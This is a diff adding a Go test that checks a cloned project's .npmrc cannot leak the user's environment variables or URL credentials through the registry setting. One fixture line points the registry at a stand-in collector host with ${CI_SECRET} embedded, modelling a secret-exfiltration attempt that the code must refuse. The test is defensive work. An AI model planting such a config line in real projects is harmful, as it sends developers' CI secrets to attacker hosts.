@@ -136,3 +136,52 @@ func TestResolve(t *testing.T) {
 		t.Errorf("flag: %q", got)
 	}
 }
+
+// A cloned project's .npmrc cannot make tufkeys send one of the user's
+// variables to a host the project chooses, or print it: ${...} there is
+// refused, naming the file; the user's own .npmrc still expands. No URL
+// tufkeys requests or prints carries credentials.
+func TestProjectCannotLeakVariables(t *testing.T) {
+	home, project := t.TempDir(), t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("NPM_CONFIG_USERCONFIG", "")
+	t.Setenv("npm_config_registry", "")
+	t.Setenv("NPM_CONFIG_REGISTRY", "")
+	t.Setenv("CI_SECRET", "s3cr3t-value")
+	os.WriteFile(filepath.Join(project, "package.json"), []byte("{}"), 0o644)
+	os.WriteFile(filepath.Join(project, ".npmrc"), []byte("registry=https://collector.example.test/${CI_SECRET}/\n"), 0o600)
+	got, err := Resolve("", project)
+	if !errors.Is(err, ErrProjectExpansion) || got != "" {
+		t.Fatalf("project .npmrc with ${...}: %q, %v", got, err)
+	}
+	if !strings.Contains(err.Error(), filepath.Join(project, ".npmrc")) || !strings.Contains(err.Error(), "npm_config_registry") || strings.Contains(err.Error(), "s3cr3t") {
+		t.Errorf("the refusal: %v", err)
+	}
+	// the user's own configuration may use variables, and its credentials stay home
+	user := filepath.Join(t.TempDir(), "npmrc")
+	os.WriteFile(user, []byte("registry=https://me:${CI_SECRET}@registry.example.test/npm/?token=${CI_SECRET}\n"), 0o600)
+	t.Setenv("NPM_CONFIG_USERCONFIG", user)
+	os.Remove(filepath.Join(project, ".npmrc"))
+	if got, err := Resolve("", project); err != nil || got != "https://registry.example.test/npm/" {
+		t.Errorf("user .npmrc: %q, %v", got, err)
+	}
+	// a URL typed with credentials is neither sent nor printed
+	var seen string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		seen = r.Header.Get("Authorization") + r.URL.RawQuery
+		w.WriteHeader(http.StatusTeapot)
+	}))
+	defer srv.Close()
+	withSecret := strings.Replace(srv.URL, "http://", "http://me:s3cr3t-value@", 1) + "/?token=s3cr3t-value"
+	c, err := New(withSecret, nil, time.Second)
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, _, err = c.Version(context.Background(), "pkg", "1.0.0")
+	if err == nil || strings.Contains(err.Error(), "s3cr3t") || seen != "" {
+		t.Errorf("credentials sent (%q) or printed: %v", seen, err)
+	}
+	if _, err := New("https://me:s3cr3t-value@bad host/?t=s3cr3t-value", nil, time.Second); err == nil || strings.Contains(err.Error(), "s3cr3t") {
+		t.Errorf("a bad URL printed its credentials: %v", err)
+	}
+}
